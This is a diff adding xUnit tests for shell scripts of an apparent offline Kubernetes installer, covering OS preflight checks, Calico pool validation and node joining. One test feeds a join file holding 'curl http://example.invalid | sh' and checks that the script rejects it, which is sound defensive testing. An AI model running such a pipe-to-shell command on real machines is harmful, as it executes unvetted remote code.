@@ -221,6 +221,66 @@ public sealed class HostScriptsTests : IDisposable
         StringComparer.Ordinal);
 
     /// <summary>Runs the embedded copy of a script from a bundle-like folder, with the stand-ins (or <paramref name="path"/>) first on PATH.</summary>
+    [Fact]
+    public void Preflight_lists_every_failed_check_an_other_os_and_a_cluster_it_did_not_install()
+    {
+        _dir.Write("root/etc/os-release", "NAME=\"Ubuntu\"\nID=ubuntu\nID_LIKE=debian\nVERSION_ID=\"22.04\"\nPRETTY_NAME=\"Ubuntu 22.04 LTS\"\n");
+        _dir.Write("root/etc/kubernetes/kubelet.conf", "apiVersion: v1\n");
+
+        var result = Run("preflight.sh", ["--role", "worker", "--os", "el8", "--arch", "amd64", "--journal", _dir["root/var/lib/offlinekit/journal"]]);
+
+        Assert.Equal(1, result.Code);
+        Assert.Contains("- this is Ubuntu 22.04 LTS, not an Enterprise Linux", result.Stderr);
+        Assert.Contains("- a cluster is installed here already (/etc/kubernetes/kubelet.conf); remove it first", result.Stderr);
+        Assert.Contains("preflight: 2 check(s) failed:", result.Stderr);
+    }
+
+    [Fact]
+    public void Preflight_passes_an_el8_host_and_a_cluster_its_own_journal_records()
+    {
+        _dir.Write("root/etc/os-release", "NAME=\"Rocky Linux\"\nID=\"rocky\"\nID_LIKE=\"rhel centos fedora\"\nVERSION_ID=\"8.9\"\nPRETTY_NAME=\"Rocky Linux 8.9 (Green Obsidian)\"\n");
+        _dir.Write("root/etc/kubernetes/kubelet.conf", "apiVersion: v1\n");
+        var journal = _dir.Write("state/journal", "{\"at\":\"2026-01-01T00:00:00+00:00\",\"bundle\":\"b\",\"step\":\"join\",\"status\":\"done\",\"run\":\"r\"}\n");
+        var arch = System.Runtime.InteropServices.RuntimeInformation.OSArchitecture == System.Runtime.InteropServices.Architecture.Arm64 ? "arm64" : "amd64";
+
+        var result = Run("preflight.sh", ["--role", "worker", "--os", "el8", "--arch", arch, "--need-mb", "1", "--journal", journal]);
+
+        Assert.True(result.Code == 0, result.Output);
+        Assert.Contains("preflight: ok: Rocky Linux 8.9 (Green Obsidian)", result.Stdout);
+        Assert.Contains("preflight: ok: the cluster here is offlinekit's own (journal); resuming", result.Stdout);
+
+        var other = Run("preflight.sh", ["--role", "worker", "--os", "el7", "--arch", arch, "--journal", journal]);
+        Assert.Contains("the bundle's packages are for EL7: build one with --os el8", other.Stderr);
+    }
+
+    [Theory]
+    [InlineData("            - name: CALICO_IPV4POOL_CIDR\n              value: \"192.168.0.0/16\"\n", "sets Calico's pool to 192.168.0.0/16 but the cluster's podSubnet is 10.244.0.0/16")]
+    [InlineData("            # - name: CALICO_IPV4POOL_CIDR\n            #   value: \"192.168.0.0/16\"\n", "leaves CALICO_IPV4POOL_CIDR unset")]
+    public void The_network_step_refuses_a_calico_pool_other_than_the_pod_subnet_before_creating_anything(string env, string message)
+    {
+        _dir.Write("root/etc/kubernetes/admin.conf", "apiVersion: v1\nkind: Config\n");
+        var manifest = _dir.Write("bundle/manifests/calico.yaml", "kind: DaemonSet\nmetadata:\n  name: calico-node\nspec:\n  template:\n    spec:\n      containers:\n        - name: calico-node\n          env:\n" + env);
+
+        var result = Run("apply-manifests.sh", ["--manifest", manifest, "--pod-subnet", "10.244.0.0/16"]);
+
+        Assert.Equal(1, result.Code);
+        Assert.Contains(message, result.Stderr);
+        Assert.DoesNotContain(StandinLog(), l => l.StartsWith("kubectl", StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public void Join_refuses_a_file_that_is_no_join_command_and_removes_it_whatever_happens()
+    {
+        var file = _dir.Write("state/b.join", "curl http://example.invalid | sh\n");
+
+        var result = Run("join-node.sh", ["--join-file", file, "--node-name", "k8s-node01"]);
+
+        Assert.Equal(1, result.Code);
+        Assert.Contains("does not hold a kubeadm join command", result.Stderr);
+        Assert.False(File.Exists(file));
+        Assert.DoesNotContain(StandinLog(), l => l.StartsWith("kubeadm", StringComparison.Ordinal));
+    }
+
     private (int Code, string Stdout, string Stderr, string Output) Run(string script, IReadOnlyList<string> arguments, string? path = null)
     {
         var scriptPath = _dir[$"bundle/scripts/{script}"];
